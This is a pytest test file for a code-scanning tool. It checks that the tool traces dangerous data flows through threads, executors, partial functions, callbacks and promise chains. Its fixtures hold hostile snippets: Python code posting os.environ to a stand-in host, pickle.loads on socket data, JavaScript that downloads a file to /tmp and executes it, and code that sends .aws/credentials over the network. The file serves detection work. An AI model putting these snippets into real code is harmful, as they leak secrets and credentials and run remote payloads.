"""Calls through higher-order functions (threads, executors, partial, map, callbacks, helpers calling a parameter)
and JS downloads collected in pieces, seen through the CLI with their traces."""
from __future__ import annotations

import json

import pytest

from codescan.cli import main


def _findings(capsys, tmp_path, name: str, text: str) -> list[dict]:
    target = tmp_path / name
    target.write_text(text, encoding="utf-8")
    main(["scan", str(target), "--format", "json", "--no-progress"])
    return [f for f in json.loads(capsys.readouterr().out)["findings"] if f["severity"] in ("high", "critical")]


def _notes(finding: dict) -> str:
    return " | ".join(step["message"] for step in finding.get("trace") or [])


LAUNCHED = """import os, threading, multiprocessing, functools, pickle, socket, requests
from concurrent.futures import ThreadPoolExecutor
data = {payload}
{launch}
"""


@pytest.mark.parametrize("launch, rule, note", [
    ('threading.Thread(target=requests.post, args=("https://c.example",), kwargs={"data": data}).start()',
     "http-post-of-environment", "called through threading.Thread target"),
    ('multiprocessing.Process(target=requests.post, args=("https://c.example", data)).start()',
     "http-post-of-environment", "called through multiprocessing.Process target"),
    ('ThreadPoolExecutor().submit(requests.post, "https://c.example", json=data)',
     "http-post-of-environment", "submit function"),
    ('functools.partial(requests.post, "https://c.example")(data=data)',
     "http-post-of-environment", "called through functools.partial"),
    ('threading.Thread(target=pickle.loads, args=(socket.socket().recv(99),)).start()',
     "pickle-load", "called through threading.Thread target"),
])
def test_a_sink_run_through_a_launcher_gets_its_arguments(capsys, tmp_path, launch, rule, note):
    found = _findings(capsys, tmp_path, "l.py", LAUNCHED.format(payload="dict(os.environ)", launch=launch))
    hits = [f for f in found if f["rule_id"] == rule]
    assert hits, found
    assert note in _notes(hits[0])
    if rule == "http-post-of-environment":  # the same launch with constant data is quiet
        quiet = _findings(capsys, tmp_path, "q.py", LAUNCHED.format(payload='{"v": 1}', launch=launch))
        assert not [f for f in quiet if f["rule_id"] == rule]


def test_a_helper_calling_its_parameter_and_a_thread_target_helper(capsys, tmp_path):
    text = """import os, threading, requests
def run(fn, *args, **kw):
    return fn(*args, **kw)
def worker(url, body):
    requests.post(url, data=body)
run(requests.post, "https://c.example", data=dict(os.environ))
threading.Thread(target=worker, args=("https://c.example", str(os.environ))).start()
run(requests.post, "https://c.example", data="constant")
"""
    found = [f for f in _findings(capsys, tmp_path, "h.py", text) if f["rule_id"] == "http-post-of-environment"]
    lines = {f["line"]: _notes(f) for f in found}
    assert set(lines) == {5, 6}, lines
    assert "the parameter holding requests.post is called here" in lines[6]
    assert "called through threading.Thread target" in lines[5]


def test_functions_kept_in_a_list_or_dict_are_called_later(capsys, tmp_path):
    text = """import os, requests
ACTIONS = {"send": requests.post}
hooks = []
hooks.append(requests.post)
ACTIONS["send"]("https://c.example", data=dict(os.environ))
for hook in hooks:
    hook("https://c.example", data=dict(os.environ))
"""
    found = [f for f in _findings(capsys, tmp_path, "t.py", text) if f["rule_id"] == "http-post-of-environment"]
    assert {f["line"] for f in found} == {5, 7}


COLLECTED = """const https = require('https');
const fs = require('fs');
const { execFileSync, execSync } = require('child_process');
https.get('https://mirror.example/tool', (res) => {
  const parts = [];
  res.on('data', (c) => parts.push(c));
  res.on('end', () => {
    fs.writeFileSync('/tmp/.tool', Buffer.concat(parts));
    %s
  });
});
"""


def test_a_download_collected_in_pieces_and_run_by_its_literal_path(capsys, tmp_path):
    found = _findings(capsys, tmp_path, "d.js", COLLECTED % "execFileSync('/tmp/.tool');")
    hits = [f for f in found if f["rule_id"] == "js-download-and-run-file"]
    assert [f["line"] for f in hits] == [9], found
    notes = _notes(hits[0])
    for part in ("https.get(...) response given to the callback", "parts.push(...)", "Buffer.concat(...)",
                 "the path /tmp/.tool written at line 8"):
        assert part in notes, notes
    # the same download only unpacked or hashed by a command naming it: not run
    for command in ("execSync('tar xzf /tmp/.tool');", "execSync('sha256sum /tmp/.tool');",
                    "execFileSync('/tmp/.other');"):
        quiet = _findings(capsys, tmp_path, "q.js", COLLECTED % command)
        assert not [f for f in quiet if f["rule_id"] == "js-download-and-run-file"], command


def test_promisified_exec_and_promise_chains_reach_the_written_file(capsys, tmp_path):
    text = """const fs = require('fs');
const util = require('util');
const run = util.promisify(require('child_process').exec);
const { spawn } = require('child_process');
fetch('https://mirror.example/b').then((r) => r.arrayBuffer()).then((buf) => {
  fs.writeFileSync('/tmp/.b', Buffer.from(buf));
  spawn('/tmp/.b');
});
async function go(axios) {
  const r = await axios.get('https://mirror.example/x');
  const dest = '/tmp/.x';
  fs.writeFileSync(dest, r.data);
  await run(dest);
}
"""
    found = [f for f in _findings(capsys, tmp_path, "p.js", text) if f["rule_id"] == "js-download-and-run-file"]
    assert {f["line"] for f in found} == {7, 13}, found


def test_a_readfile_callback_stores_a_credential_file_that_is_sent_later(capsys, tmp_path):
    text = """const fs = require('fs');
const axios = require('axios');
let postData = '';
fs.readFile('%s', 'utf8', (err, data) => {
  postData = data;
});
axios.post('https://api.example.com/data', postData);
"""
    found = [f for f in _findings(capsys, tmp_path, "r.js", text % ".aws/credentials")
             if f["rule_id"] == "js-credential-file-sent-over-network"]
    assert [f["line"] for f in found] == [7]
    assert "assigned to postData in a callback" in _notes(found[0])
    quiet = _findings(capsys, tmp_path, "q.js", text % "package.json")
    assert not [f for f in quiet if f["rule_id"] == "js-credential-file-sent-over-network"]
